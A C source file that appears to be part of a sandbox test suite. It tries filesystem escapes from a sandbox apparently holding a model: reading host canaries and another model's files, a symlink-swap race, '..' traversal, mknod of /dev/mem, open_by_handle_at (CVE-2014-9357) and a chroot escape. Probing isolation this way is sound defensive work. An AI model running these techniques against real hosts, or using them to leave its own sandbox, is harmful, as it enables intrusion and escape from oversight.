// Files that are not the sandbox's: reading them, writing them, getting at them by another name.
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static struct report read_canary(const char *path) {
    char text[128];
    if (read_file(path, text, sizeof text) < 0) {
        return refused(path);
    }
    return strncmp(text, MARKER, strlen(MARKER)) == 0 ? escaped("read %s", path) : absent("%s is another file", path);
}

static struct report create_in(const char *folder) {
    char path[512];
    snprintf(path, sizeof path, "%s/escape", folder);
    int file = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    if (file < 0) {
        return refused(path);
    }
    release(file);
    unlink(path);
    return escaped("made %s", path);
}

static struct report read_host_file(void) { return read_canary(path_option("canary")); }

static struct report read_other_model(void) { return read_canary(path_option("other_model")); }

static struct report read_gateway_data(void) { return read_canary(path_option("gateway_data")); }

static struct report write_host_file(void) {
    const char *path = path_option("canary");
    int file = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (file < 0) {
        return refused(path);
    }
    long written = write(file, "x", 1);
    release(file);
    return judge(written, "write to the canary");
}

static struct report list_host_folder(void) {
    int folder = open(path_option("canaries"), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    release(folder);
    return judge(folder, "open the host's folder");
}

static struct report write_root(void) { return create_in(option("root") ? option("root") : ""); }

static struct report write_model_folder(void) { return create_in(option("model") ? option("model") : "/model"); }

static struct report write_system_folder(void) { return create_in(option("system") ? option("system") : "/usr"); }

static struct report overwrite_program(void) {
    int file = open(option("program") ? option("program") : "/model/sandbox-attack", O_WRONLY | O_CLOEXEC);
    release(file);
    return judge(file, "open a program for writing");
}

static struct report replace_model(void) {
    const char *model = option("model") ? option("model") : "/model";
    char from[512], to[512];
    snprintf(from, sizeof from, "%s/data", model);
    snprintf(to, sizeof to, "%s/data2", model);
    return judge(rename(from, to), "rename the model's file");
}

static struct report follow_symlink(void) {
    const char *link = option("link") ? option("link") : "/tmp/link";
    unlink(link);
    if (symlink(path_option("canary"), link) < 0) {
        return refused("symlink");
    }
    struct report report = read_canary(link);
    unlink(link);
    return report;
}

static struct report hard_link(void) {
    const char *link = option("link") ? option("link") : "/tmp/hard";
    unlink(link);
    if (linkat(AT_FDCWD, path_option("canary"), AT_FDCWD, link, 0) < 0) {
        return refused("linkat");
    }
    unlink(link);
    return escaped("the host's file has a second name");
}

static struct report dot_dot(void) {
    char path[1024] = "/tmp";
    for (int i = 0; i < 32; i++) {
        strcat(path, "/..");
    }
    strncat(path, path_option("canary"), sizeof path - strlen(path) - 1);
    return read_canary(path);
}

// A race in whoever resolves the sandbox's paths would let one of these through.
static struct report swap_symlink(void) {
    const char *a = option("link") ? option("link") : "/tmp/swap";
    char b[512], text[64];
    snprintf(b, sizeof b, "%s2", a);
    unlink(a);
    unlink(b);
    if (symlink("/", a) < 0 || symlink(path_option("canaries"), b) < 0) {
        return refused("symlink");
    }
    char path[600];
    snprintf(path, sizeof path, "%s/canary", a);
    for (int i = 0; i < 2000; i++) {
        renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
        if (read_file(path, text, sizeof text) > 0 && strncmp(text, MARKER, strlen(MARKER)) == 0) {
            return escaped("read the canary after %d swaps", i);
        }
    }
    return refused("2,000 swaps");
}

static struct report device_node(void) {
    const char *node = option("link") ? option("link") : "/tmp/node";
    unlink(node);
    if (mknod(node, S_IFCHR | 0666, makedev(1, 1)) < 0) {
        return refused("mknod");
    }
    unlink(node);
    return escaped("made a node of /dev/mem");
}

static struct report open_devices(void) {
    static const char *const devices[] = {
        "/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/net/tun", "/dev/vda", "/dev/sda", "/dev/nvme0n1",
        "/dev/loop-control", "/dev/ptmx", "/dev/vhost-net", "/dev/userfaultfd", "/dev/tty1",
    };
    int error = ENOENT;
    for (size_t i = 0; i < sizeof devices / sizeof *devices; i++) {
        int device = open(devices[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
        if (device >= 0) {
            release(device);
            return escaped("opened %s", devices[i]);
        }
        error = errno == ENOENT ? error : errno;
    }
    errno = error;
    return refused("devices of the host");
}

// Names everything beneath a root by number, without walking there: CVE-2014-9357 and its kin.
static struct report open_by_handle(void) {
    struct {
        struct file_handle handle;
        unsigned char bytes[128];
    } file = {.handle.handle_bytes = 128};
    int mount;
    if (name_to_handle_at(AT_FDCWD, "/", &file.handle, &mount, 0) < 0) {
        return refused("name_to_handle_at");
    }
    int opened = open_by_handle_at(AT_FDCWD, &file.handle, O_PATH | O_CLOEXEC);
    struct report report = judge(opened, "open_by_handle_at");
    release(opened);
    return report;
}

static struct report chroot_escape(void) {
    int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (root < 0) {
        return refused("open the root");
    }
    if (chroot("/tmp") < 0) {
        return refused("chroot");
    }
    if (fchdir(root) < 0 || chdir("..") < 0 || chroot(".") < 0) {
        return refused("leave the new root");
    }
    return escaped("changed the root and left it again");
}

const struct attack filesystem_attacks[] = {
    {"read-host-file", read_host_file},
    {"read-other-model", read_other_model},
    {"read-gateway-data", read_gateway_data},
    {"write-host-file", write_host_file},
    {"list-host-folder", list_host_folder},
    {"write-root", write_root},
    {"write-model-folder", write_model_folder},
    {"write-system-folder", write_system_folder},
    {"overwrite-program", overwrite_program},
    {"replace-model", replace_model},
    {"follow-symlink", follow_symlink},
    {"swap-symlink", swap_symlink},
    {"hard-link", hard_link},
    {"dot-dot", dot_dot},
    {"device-node", device_node},
    {"open-devices", open_devices},
    {"open-by-handle", open_by_handle},
    {"chroot-escape", chroot_escape},
    {NULL, NULL},
};
